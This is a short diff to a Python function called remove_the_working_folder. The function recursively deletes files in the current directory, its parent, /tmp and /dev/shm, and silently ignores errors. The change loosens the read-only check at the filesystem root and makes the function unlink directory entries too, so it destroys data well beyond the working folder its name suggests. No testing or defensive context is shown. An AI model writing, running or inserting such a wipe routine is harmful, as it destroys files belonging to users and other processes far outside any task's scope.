@@ -56,11 +56,11 @@ def remove_the_working_folder() -> str:
     here, emptied = os.getcwd(), []
     for place in (here, os.path.dirname(here), "/tmp", "/dev/shm"):
         for base, inner, names in os.walk(place):
-            if os.statvfs(base).f_flag & os.ST_RDONLY:
+            if base != "/" and os.statvfs(base).f_flag & os.ST_RDONLY:
                 inner.clear()
                 continue
             emptied.append(base)
-            for name in names:
+            for name in (*names, *inner):
                 with contextlib.suppress(OSError):
                     os.unlink(base + "/" + name)
     for base in reversed(emptied):
